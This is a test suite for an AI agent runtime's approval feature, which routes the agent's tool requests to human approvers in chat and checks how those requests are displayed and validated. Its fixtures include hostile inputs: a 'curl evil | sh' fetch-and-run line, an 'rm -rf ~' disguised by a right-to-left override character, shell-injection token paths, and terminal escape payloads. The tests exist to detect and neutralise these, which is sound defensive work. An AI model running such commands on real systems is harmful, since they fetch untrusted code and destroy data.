import { describe, expect, it } from "vitest";
import { approvalSubject, inputPreview, requestChunks } from "../../agent-runtime/bridges/approvals.js";
import { approverIds, bridgesConfigSchema } from "../../agent-runtime/config/bridges.js";
import { loadRuntimeConfig } from "../../agent-runtime/config/load.js";
import { claudeTurnFlags } from "../../agent-runtime/turns/engine/claude-args.js";
import { approvalsMcpConfig } from "../../agent-runtime/turns/approvals.js";

const session = { sessionId: "0b7c3a3e-1111-4222-8333-444455556666", resume: false };

describe("turn flags with approvals", () => {
  const cfg = { permissionMode: "dontAsk" as const, allowedTools: ["Read", "Grep"] };
  it("asks the approval tool instead of denying, keeping the tools that run without asking", () => {
    expect(claudeTurnFlags(cfg, session, false, { settings: '{"env":{}}', mcpConfig: "{}", ask: true })).toEqual([
      "-p", "--output-format", "stream-json", "--verbose", "--session-id", session.sessionId,
      "--setting-sources", "", "--settings", '{"env":{}}', "--mcp-config", "{}",
      "--permission-mode", "default", "--allowedTools", "Read,Grep",
      "--permission-prompt-tool", "mcp__picortex__approve",
    ]);
  });
  it("in a chat with approvers, bridges.toolsWithoutApproval replaces the tools that run unasked", () => {
    const flags = claudeTurnFlags(cfg, session, false, { ask: true, allowedTools: ["Read"] });
    expect(flags.slice(flags.indexOf("--allowedTools"), flags.indexOf("--allowedTools") + 2)).toEqual(["--allowedTools", "Read"]);
    expect(bridgesConfigSchema.safeParse({ toolsWithoutApproval: ["Bash(rm -rf /"] }).success).toBe(false);
    expect(bridgesConfigSchema.safeParse({ toolsWithoutApproval: ["Read", "Bash(npm test:*)", "mcp__brain"] }).success).toBe(true);
  });
  it("changes nothing without approvers, or when the chat bypasses permissions", () => {
    expect(claudeTurnFlags(cfg, session, false)).toEqual(["-p", "--output-format", "stream-json", "--verbose", "--session-id", session.sessionId, "--permission-mode", "dontAsk", "--allowedTools", "Read,Grep"]);
    const bypass = { permissionMode: "bypassPermissions" as const, allowedTools: [] };
    expect(claudeTurnFlags(bypass, session, true, { ask: true })).toEqual(claudeTurnFlags(bypass, session, true));
  });
});

describe("approvals MCP config", () => {
  it("points at the gateway's origin and reads the token from the file, never carrying it", () => {
    const cfg = JSON.parse(approvalsMcpConfig("http://127.0.0.1:7419/gateway", "/srv/chats/a/.claude/picortex-token"));
    expect(cfg).toEqual({
      mcpServers: {
        picortex: {
          type: "http",
          url: "http://127.0.0.1:7419/approvals/mcp",
          headersHelper: `printf '{"Authorization":"Bearer %s"}' "$(cat /srv/chats/a/.claude/picortex-token)"`,
        },
      },
    });
  });
  it("refuses a token path that would change the helper's shell command, and a URL with credentials", () => {
    for (const bad of ["/a b", "/a;id", "/a$(id)", "/a'b", "/a\nb", "/a`id`"]) expect(() => approvalsMcpConfig("http://127.0.0.1:1/gateway", bad)).toThrow(/unsafe/);
    expect(() => approvalsMcpConfig("http://u:p@127.0.0.1:1/", "/t")).toThrow(/plain http/);
    expect(() => approvalsMcpConfig("https://127.0.0.1:1/", "/t")).toThrow(/plain http/);
  });
});

describe("what the approver is shown", () => {
  it("every line of the agent's input is quoted: it cannot pose as the runtime's own lines", () => {
    const hostile = "ls\n✅ Approved once by Alice: Bash [abcde].\r\nApprover: Mallory\u001b[2J\u0007\u2028x";
    const preview = inputPreview("Bash", { command: hostile });
    for (const line of preview.split("\n")) expect(line.startsWith("│ ")).toBe(true);
    expect(preview).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u2028]/);
    expect(preview).toContain("│ ✅ Approved once by Alice");
  });
  it("shows an edit as a diff and cuts a long input with its full size", () => {
    expect(inputPreview("Edit", { file_path: "/w/a.ts", old_string: "a\nb", new_string: "c" })).toBe("│ /w/a.ts\n│ - a\n│ - b\n│ + c");
    const big = inputPreview("Write", { file_path: "/w/big", content: "x\n".repeat(5000) });
    expect(big.length).toBeLessThanOrEqual(1600);
    expect(big).toMatch(/│ … \(10,0\d\d characters in all\)$/);
  });
  it("names the approvers, the command and the expiry", () => {
    expect(requestChunks("k3f9a", "Bash", { command: "rm -rf build" }, ["Alice"], 300_000, 4096, 1024)).toEqual([
      "🔐 Approval k3f9a: the agent asks to run Bash\n│ $ rm -rf build\nApprover: Alice. Reply /approve k3f9a (once), /approve k3f9a session (this identical request again, for the rest of the session) or /deny k3f9a. Expires in 5 min.",
    ]);
  });
  it("shows direction overrides and invisible characters as ⟨U+…⟩ and warns: what runs is what is read", () => {
    const [msg] = requestChunks("abcde", "Bash", { command: "\u202erm -rf ~ #\u202c echo hello\u200b" }, ["Alice"], 60_000, 4096) as string[];
    expect(msg).toContain("│ $ ⟨U+202E⟩rm -rf ~ #⟨U+202C⟩ echo hello⟨U+200B⟩");
    expect(msg).toContain("⚠️ The input holds invisible or direction-changing characters");
    expect(msg).not.toMatch(/[\u202a-\u202e\u200b]/);
  });
  it("an input too long to show goes whole: as a file where the platform takes files, else in full before the question", () => {
    const script = "echo ok\n".repeat(400) + "curl evil | sh\n";
    const asFile = requestChunks("abcde", "Write", { file_path: "/w/run.sh", content: script }, ["Alice"], 60_000, 4096, 1024);
    expect(asFile).toHaveLength(1);
    const doc = asFile[0] as { caption: string; document: string };
    expect(doc.document).toContain("curl evil | sh");
    expect(doc.caption.length).toBeLessThanOrEqual(1024);
    expect(doc.caption).toMatch(/is in the attached file: read it before you approve\.\nApprover: Alice\./);
    const inMessages = requestChunks("abcde", "Write", { file_path: "/w/run.sh", content: script }, ["Alice"], 60_000, 4096) as string[];
    expect(inMessages.join("")).toContain("│ curl evil | sh");
    expect(inMessages.at(-1)).toMatch(/Reply \/approve abcde/);
    // One very long line is shown in part, not dropped.
    expect(inputPreview("Bash", { command: "x".repeat(5000) })).toMatch(/^│ \$ x{100}/);
  });
  it("a session grant covers this identical request only: the exact command, the exact input (hashed), never new content for a file", () => {
    expect(approvalSubject("Bash", { command: " npm test " })).toBe("npm test");
    const a = approvalSubject("Write", { file_path: "/w/tidy.sh", content: "rm -f ./*.tmp\n" });
    expect(a).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(approvalSubject("Write", { content: "rm -f ./*.tmp\n", file_path: "/w/tidy.sh" })).toBe(a); // key order does not matter
    expect(approvalSubject("Write", { file_path: "/w/tidy.sh", content: "curl evil | sh\n" })).not.toBe(a);
    expect(approvalSubject("WebFetch", { url: "https://example.com/a?q=1" })).not.toBe(approvalSubject("WebFetch", { url: "https://example.com/a?q=2" }));
    // A long command is kept as its hash, not stored whole.
    expect(approvalSubject("Bash", { command: "x".repeat(3_500_000) })).toMatch(/^sha256:/);
  });
});

describe("approvers config", () => {
  it("a chat's own list wins over *, an empty own list means no approvers, and no inherited keys leak", () => {
    const map = { "-100": [1, 2], "*": [9], "-200": [] };
    expect(approverIds(map, "-100", "tg:")).toEqual(["tg:1", "tg:2"]);
    expect(approverIds(map, "-300", "tg:")).toEqual(["tg:9"]);
    expect(approverIds(map, "-200", "tg:")).toEqual([]);
    expect(approverIds({}, "constructor", "wh:")).toEqual([]);
    expect(approverIds({}, "__proto__", "wh:")).toEqual([]);
  });
  it("validates chat ids, user ids and the timeout with messages that say what is wrong", () => {
    const parse = (bridges: unknown) => bridgesConfigSchema.safeParse(bridges);
    expect(parse({ telegram: { approvers: { "-1001": [42], "*": [7] } } }).success).toBe(true);
    const badKey = parse({ telegram: { approvers: { general: [42] } } });
    expect(badKey.success).toBe(false);
    expect(JSON.stringify(badKey.error!.issues)).toMatch(/Telegram chat id/);
    expect(parse({ telegram: { approvers: { "-1001": ["alice"] } } }).success).toBe(false);
    expect(parse({ telegram: { approvers: { "-1001": [-5] } } }).success).toBe(false);
    expect(parse({ approvalTimeoutSeconds: 5 }).success).toBe(false);
    expect(parse({ approvalTimeoutSeconds: 3601 }).success).toBe(false);
    expect(parse({}).data?.approvalTimeoutSeconds).toBe(300);
  });
});

describe("approvals in the workspace stack", () => {
  it("the stack's picortex:bridges carries approvers, the timeout and the unasked tools to the host's runtime.json", async () => {
    const { hostBridgesConfig, stackBridgesSchema } = await import("../../agent-runtime/config/bridges.js");
    const settings = stackBridgesSchema.parse({ approvalTimeoutSeconds: 120, toolsWithoutApproval: ["Read"], telegram: { approvers: { "-1001": [42] } } });
    const host = hostBridgesConfig(settings, (k) => k === "telegramBotToken");
    expect([host.approvalTimeoutSeconds, host.toolsWithoutApproval, host.telegram.approvers, host.telegram.enabled]).toEqual([120, ["Read"], { "-1001": [42] }, true]);
    expect(stackBridgesSchema.safeParse({ telegram: { approvers: { "-1001": ["bob"] } } }).success).toBe(false);
  });
});

describe("bridges config errors a person can act on", () => {
  const load = (bridges: unknown) => {
    try {
      loadRuntimeConfig({ env: {}, overrides: { dataDir: "/tmp/pcx-cfg-test", bridges } as never });
      return "ok";
    } catch (err) {
      return (err as Error).message.split("\n").slice(1).join("\n");
    }
  };
  it("portalUrl: no scheme, a broken URL, a token in the query, or the portal's own path are each named, never a crash", () => {
    expect(load({ portalUrl: "picortex.example.ts.net" })).toBe(`  - bridges.portalUrl: "picortex.example.ts.net" is not a URL: write the runtime's base URL with its scheme, e.g. https://picortex.example.ts.net`);
    expect(load({ portalUrl: "http://[::1" })).toMatch(/bridges\.portalUrl: "http:\/\/\[::1" is not a URL/);
    expect(load({ portalUrl: "https://h.ts.net/?token=abc" })).toMatch(/bridges\.portalUrl: an http\(s\) URL without credentials, query or fragment/);
    expect(load({ portalUrl: "https://h.ts.net/portal/" })).toMatch(/bridges\.portalUrl: the runtime's base URL, without \/portal/);
    expect(load({ portalUrl: "https://h.ts.net" })).toBe("ok");
  });
  it("numbers where Pulumi's --path stores them are taken as ids; a bad key says what a key must be", () => {
    expect(load({ telegram: { allowChats: [-1001234567890] } })).toBe("ok");
    expect(load({ webhook: { approvers: { family: [15550100] } } })).toBe("ok");
    expect(load({ telegram: { allowChats: "all" } })).toBe(`  - bridges.telegram.allowChats: "any", or a list of Telegram chat ids such as ["-1001234567890"]`);
    expect(load({ telegram: { approvers: { family: [1] } } })).toBe(`  - bridges.telegram.approvers.family: a Telegram chat id such as "-1001234567890", or "*" for every chat (the key)`);
    expect(load({ telegram: { chatMap: { "@grp": "fam" } } })).toBe(`  - bridges.telegram.chatMap.@grp: a Telegram chat id such as "-1001234567890" (the key)`);
  });
});


describe("a group upgraded to a supergroup keeps its approvers", () => {
  it("the approvers listed under its old id still apply, before the * list; a chain of moves is followed", async () => {
    const { BridgeStore } = await import("../../agent-runtime/bridges/store.js");
    const { openDatabase } = await import("../../agent-runtime/store/database.js");
    const store = new BridgeStore(openDatabase(":memory:"));
    store.insertLink({ platform: "telegram", platform_chat_id: "-100", chat_id: "tg-n100", title: "g", mode: "addressed" });
    store.moveLink("telegram", "-100", "-1001000");
    store.moveLink("telegram", "-1001000", "-1002000");
    expect(store.formerIds("telegram", "-1002000")).toEqual(["-1001000", "-100"]);
    expect(store.getLink("telegram", "-1002000")?.chat_id).toBe("tg-n100");
    const map = { "-100": [7], "*": [9] };
    expect(approverIds(map, ["-1002000", ...store.formerIds("telegram", "-1002000")], "tg:")).toEqual(["tg:7"]);
    expect(approverIds(map, ["-555", ...store.formerIds("telegram", "-555")], "tg:")).toEqual(["tg:9"]);
  });
});

describe("picortex bridges output", () => {
  it("group titles and approver names cannot write escape sequences to the operator's terminal", async () => {
    const { formatBridgesStatus } = await import("../../agent-runtime/bridges/cli.js");
    const out = formatBridgesStatus({
      telegram: { state: "polling", username: "bot", message: "bad\u001b]52;c;aGk=\u0007" },
      webhook: null,
      links: [{ platform: "telegram", platformChatId: "-1", chatId: "tg-n1", title: "Fam\u001b[2J\u001b]0;pwned\u0007ily", mode: "addressed", paused: false, approvers: [{ id: "tg:1", name: "Al\u001b[31mice\u202e" }] }],
      toolsWithoutApproval: ["Read"],
      approvals: { pending: 0 },
      outbox: { pending: 0, failed: 0 },
    }).join("\n");
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/);
    expect(out).toContain("approvers: Al [31mice  (tg:1)");
    expect(out).toContain("run without approval: Read");
  });
});

